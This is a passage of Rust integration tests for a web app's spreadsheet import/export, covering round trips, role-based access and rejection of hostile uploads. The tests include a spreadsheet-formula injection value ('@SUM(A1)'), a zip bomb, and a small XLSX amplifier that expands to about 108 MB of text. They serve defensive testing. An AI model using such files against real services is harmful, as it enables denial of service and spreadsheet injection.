    let (_, _, xlsx_bytes) = download(&web, &app, "/api/v1/export/enterprises.xlsx").await;
    let (rows, sheets) = read_xlsx(&xlsx_bytes);
    assert_eq!(rows[1][0], name);
    use calamine::Reader;
    let mut book = calamine::Xlsx::new(Cursor::new(xlsx_bytes)).unwrap();
    let formulas = book.worksheet_formula(&sheets[0]).unwrap();
    assert!(formulas.used_cells().next().is_none(), "{formulas:?}");
    // The CSV imports back to the same text.
    let text = String::from_utf8(bytes)
        .unwrap()
        .replace(&credit(1), &credit(2));
    let (status, body) = upload(&api, "enterprises", "e.csv", text.as_bytes(), true, None).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let (_, list) = api
        .get(&format!("/api/v1/enterprises?q={}", credit(2)))
        .await;
    assert_eq!(list["items"][0]["name"], name);
    assert_eq!(list["items"][0]["contact_person"], "@SUM(A1)");
}

#[tokio::test]
async fn an_export_imported_again_finds_every_row_already_there() {
    let app = TestApp::spawn().await;
    two_streets_of_enterprises(&app).await;
    let web = app.browser("a.cadre").await;
    let api = app.api("a.cadre").await;
    for path in [
        "/api/v1/export/enterprises.xlsx",
        "/api/v1/export/enterprises.csv",
    ] {
        let (_, _, bytes) = download(&web, &app, path).await;
        let name = path.rsplit('/').next().unwrap();
        let (status, body) = upload(&api, "enterprises", name, &bytes, true, None).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{path}: {body}");
        assert_eq!(
            issues(&body),
            [
                (2, "统一社会信用代码".to_string(), "credit_code".to_string()),
                (3, "统一社会信用代码".to_string(), "credit_code".to_string()),
            ],
            "{path}"
        );
        assert!(message(&body, 0).contains("已经登记过"));
        assert_eq!(
            body["preview"]["ignored_columns"],
            json!([]),
            "{path}: the export's columns are the import's"
        );
    }
    assert_eq!(visible_enterprises(&api).await, 2);

    // An export with the taken rows replaced by new codes imports cleanly.
    let (_, _, bytes) = download(&web, &app, "/api/v1/export/enterprises.csv").await;
    let text = String::from_utf8(bytes).unwrap();
    let text = text
        .replace(&credit(101), &credit(301))
        .replace(&credit(102), &credit(302));
    let (status, body) = upload(&api, "enterprises", "e.csv", text.as_bytes(), true, None).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    assert_eq!(visible_enterprises(&api).await, 4);

    // Orgs: codes are taken, and the street's own parent is out of reach of its admin.
    let (_, _, bytes) = download(
        &app.browser("a.admin").await,
        &app,
        "/api/v1/export/orgs.xlsx",
    )
    .await;
    let (status, body) = upload(
        &app.api("a.admin").await,
        "orgs",
        "orgs.xlsx",
        &bytes,
        false,
        None,
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    let got: Vec<(i64, String)> = issues(&body).into_iter().map(|i| (i.0, i.2)).collect();
    assert!(
        got.contains(&(2, "code".into())) && got.contains(&(3, "code".into())),
        "{got:?}"
    );
    assert!(got.iter().all(|(r, _)| *r == 2 || *r == 3), "{got:?}");
}

#[tokio::test]
async fn templates_hold_the_headers_only_and_are_not_audited() {
    let app = TestApp::spawn().await;
    two_streets_of_enterprises(&app).await;
    let web = app.browser("a.viewer").await;
    let audits = app.audit_count("export").await;
    for (kind, first) in [("enterprises", "单位名称"), ("orgs", "代码")] {
        let (status, _, bytes) = download(
            &web,
            &app,
            &format!("/api/v1/export/{kind}.xlsx?template=1"),
        )
        .await;
        assert_eq!(status, StatusCode::OK);
        let (rows, sheets) = read_xlsx(&bytes);
        assert_eq!(rows.len(), 1, "{kind}: {rows:?}");
        assert_eq!(rows[0][0], first);
        assert_eq!(sheets.len(), 2, "a notes sheet: {sheets:?}");
        assert_eq!(sheets[1], "填写说明");
        let (status, _, bytes) =
            download(&web, &app, &format!("/api/v1/export/{kind}.csv?template=1")).await;
        assert_eq!(status, StatusCode::OK);
        let rows = read_csv(&bytes);
        assert_eq!(rows.len(), 1, "{kind}: {rows:?}");
        assert_eq!(rows[0][0], first);
    }
    assert_eq!(app.audit_count("export").await, audits);
    // The filled-in template imports.
    let (_, _, bytes) = download(&web, &app, "/api/v1/export/enterprises.csv?template=1").await;
    let mut text = String::from_utf8(bytes).unwrap();
    text.push_str(&format!("新公司,{},,,,,,,STA,,\r\n", credit(7)));
    let (status, body) = upload(
        &app.api("a.cadre").await,
        "enterprises",
        "t.csv",
        text.as_bytes(),
        true,
        None,
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
}

// ---- access ----

#[tokio::test]
async fn only_cadres_and_admins_import_and_only_their_own_uploads() {
    let app = TestApp::spawn().await;
    let file = csv_text(&table(&ENT_HEADER, &[ent("甲公司", &credit(1), "STA")]));
    let viewer = app.api("a.viewer").await;
    let (status, body) = upload(&viewer, "enterprises", "e.csv", file.as_bytes(), true, None).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    assert_eq!(body["error"]["code"], "forbidden");
    let web = app.browser("a.viewer").await;
    assert_eq!(
        web.get(app.url("/import")).send().await.unwrap().status(),
        StatusCode::FORBIDDEN
    );
    let res = web
        .post(app.url("/import"))
        .multipart(Form::new().text("kind", "enterprises").part(
            "file",
            Part::bytes(file.clone().into_bytes()).file_name("e.csv"),
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    // Street B's cadre may not import into street A nor import orgs.
    let b = app.api("b.cadre").await;
    let (status, body) = upload(&b, "enterprises", "e.csv", file.as_bytes(), true, None).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(
        issues(&body),
        [(2, "所属组织代码".to_string(), "org_code".to_string())]
    );
    let orgs = csv_text(&table(
        &ORG_HEADER,
        &[org_row("UB2", "乙二", "基层工会", "STB")],
    ));
    let (status, _) = upload(&b, "orgs", "o.csv", orgs.as_bytes(), true, None).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _) = upload(&b, "people", "o.csv", orgs.as_bytes(), true, None).await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    // Nobody logged in.
    let anon = app.anonymous();
    let res = anon
        .post(app.url("/api/v1/import/enterprises"))
        .multipart(file_form("e.csv", file.as_bytes()))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
    let res = anon
        .post(app.url("/api/v1/imports/1/commit"))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
    let res = anon.get(app.url("/import")).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
    let to = res.headers()["location"].to_str().unwrap();
    assert!(to.starts_with("/login?next="), "/import → {to}");
    // The exports are API routes: 401 with the JSON error, not a redirect.
    for path in [
        "/api/v1/export/enterprises.xlsx",
        "/api/v1/export/enterprises.csv",
        "/api/v1/export/orgs.xlsx",
        "/api/v1/export/orgs.csv?template=1",
    ] {
        let res = anon.get(app.url(path)).send().await.unwrap();
        assert_eq!(res.status(), StatusCode::UNAUTHORIZED, "{path}");
        let body: serde_json::Value = res.json().await.unwrap();
        assert_eq!(body["error"]["code"], "unauthenticated", "{path}");
    }
    // The old addresses are gone.
    let res = app
        .browser("a.cadre")
        .await
        .get(app.url("/export/enterprises.csv"))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::NOT_FOUND);

    // A staged upload is its uploader's alone.
    let a = app.api("a.cadre").await;
    let id = stage(&a, "enterprises", "e.csv", file.as_bytes()).await;
    for other in ["b.cadre", "a.admin", "district.admin"] {
        let (status, body) = commit(&app.api(other).await, id).await;
        assert_eq!(status, StatusCode::NOT_FOUND, "{other}: {body}");
        let web = app.browser(other).await;
        let res = web
            .get(app.url(&format!("/import/{id}")))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::NOT_FOUND, "{other}");
        let res = web
            .post(app.url(&format!("/import/{id}/commit")))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::NOT_FOUND, "{other}");
    }
    assert_eq!(count(&app, "enterprises").await, 0);
    let (status, _) = commit(&a, id).await;
    assert_eq!(status, StatusCode::CREATED);
    let (status, _) = commit(&a, id + 1000).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

// ---- hostile files ----

#[tokio::test]
async fn hostile_and_broken_files_are_refused_with_a_clear_error() {
    let app = TestApp::spawn().await;
    let api = app.api("a.cadre").await;

    let bomb = zip_bomb(100);
    assert!(bomb.len() < 300 * 1024, "the bomb is {} bytes", bomb.len());
    let started = std::time::Instant::now();
    let (status, body) = upload(&api, "enterprises", "企业名单.xlsx", &bomb, true, None).await;
    assert!(started.elapsed().as_secs() < 10, "{:?}", started.elapsed());
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(body["error"]["code"], "validation");
    let (field, msg) = file_error(&body);
    assert_eq!(field, "file");
    assert!(msg.contains("解压后过大"), "{msg}");

    // Small and honest parts, but one long shared string named by many cells:
    // 108 MB of text from a file of a few kilobytes.
    let long = "甲".repeat(32_767);
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (c, h) in ENT_HEADER.iter().enumerate() {
        sheet.write_string(0, c as u16, *h).unwrap();
    }
    for r in 1..=1_100 {
        sheet.write_string(r, 0, &long).unwrap();
    }
    let amplifier = book.save_to_buffer().unwrap();
    assert!(amplifier.len() < 64 * 1024, "{} bytes", amplifier.len());
    let (status, body) = upload(&api, "enterprises", "名单.xlsx", &amplifier, false, None).await;
    assert_eq!(
        status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        body["error"]
    );
    assert!(file_error(&body).1.contains("解压后过大"), "{body}");

    let cases: [(&str, Vec<u8>, &str); 5] = [
        (
            "garbage.xlsx",
            b"name,code\r\n1,2\r\n".to_vec(),
            "不是有效的 Excel 工作簿",
        ),
        (
            "random.xlsx",
            (0..4096u32).map(|i| (i * 7919 % 251) as u8).collect(),
            "不是有效的 Excel 工作簿",
        ),
        ("empty.xlsx", Vec::new(), "文件是空的"),
        ("empty.csv", b"\r\n,,\r\n".to_vec(), "文件是空的"),
        (
            "old.xls",
            b"\xD0\xCF\x11\xE0".to_vec(),
            "只能导入 .xlsx 或 .csv 文件",
        ),
    ];
    for (name, bytes, want) in cases {
        let (status, body) = upload(&api, "enterprises", name, &bytes, true, None).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{name}: {body}");
        let (field, msg) = file_error(&body);
        assert_eq!(field, "file", "{name}");
        assert!(msg.contains(want), "{name}: {msg}");
    }
    // In English too.
    let (_, body) = upload(
        &api,
        "enterprises",
        "garbage.xlsx",
        b"hello",
        false,
        Some("en"),
    )
    .await;
    assert_eq!(
        file_error(&body).1,
        "The file is named .xlsx but is not a valid Excel workbook."
    );
    // A form without a file.
    let res = api
        .client
        .post(app.url("/api/v1/import/enterprises"))
        .bearer_auth(&api.token)
        .multipart(Form::new().text("note", "no file"))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body: Value = res.json().await.unwrap();
    assert_eq!(
        file_error(&body),
        ("file".to_string(), "“文件”不能为空。".to_string())
    );
    // A header but no rows.
    let (status, body) = upload(
        &api,
        "enterprises",
        "h.csv",
        csv_text(&table(&ENT_HEADER, &[])).as_bytes(),
        true,
        None,
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(message(&body, 0).contains("没有数据行"), "{body}");

    assert_eq!(count(&app, "enterprises").await, 0);
    assert_eq!(count(&app, "pending_imports").await, 0);
}

#[tokio::test]
async fn a_file_over_the_size_limit_is_refused_with_413() {
    let app = TestApp::spawn_with(|s| s.import.max_upload_bytes = 64 * 1024).await;
    let api = app.api("a.cadre").await;
    let row = ent("甲公司", &credit(1), "STA").join(",");
    // Just over the limit (caught while reading the upload) and far over it
    // (caught by the request body limit).
    for size in [64 * 1024 + 1, 2 * 1024 * 1024] {
        let mut text = ENT_HEADER.join(",") + "\r\n";
        while text.len() < size {
            text.push_str(&row);
            text.push_str("\r\n");
        }
        let (status, body) =
            upload(&api, "enterprises", "big.csv", text.as_bytes(), true, None).await;
        assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{size}: {body}");
        assert_eq!(body["error"]["code"], "too_large", "{size}");
        assert_eq!(body["error"]["message"], "上传的文件太大。");
    }
    // The upload page says what the limit is.
    let web = app.browser("a.cadre").await;
    let mut text = ENT_HEADER.join(",") + "\r\n";
    while text.len() < 80 * 1024 {
        text.push_str(&row);
        text.push_str("\r\n");
    }
    let res = web
        .post(app.url("/import"))
        .multipart(
            Form::new()
                .text("kind", "enterprises")
                .part("file", Part::bytes(text.into_bytes()).file_name("big.csv")),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(res.text().await.unwrap().contains("文件太大，最大 1 MB"));
    assert_eq!(count(&app, "pending_imports").await, 0);
}

#[tokio::test]
async fn a_refused_import_without_rows_matches_its_documented_body() {
    let app = TestApp::spawn().await;
    let api = app.api("a.cadre").await;
    // A file that cannot be read has no preview: the error alone.
    let (status, body) = upload(
        &api,
        "enterprises",
        "e.xlsx",
        b"not a workbook",
        false,
        None,
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(body["error"]["code"], "validation", "{body}");
    assert!(body.get("preview").is_none(), "{body}");
    // ... which the document allows: `preview` is not required.
    let (_, doc) = api.get("/api/v1/openapi.json").await;
    let schema = &doc["components"]["schemas"]["ImportErrorBody"];
    let required: Vec<&str> = schema["required"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert_eq!(required, ["error"], "{schema}");
    assert!(schema["properties"].get("preview").is_some(), "{schema}");
}
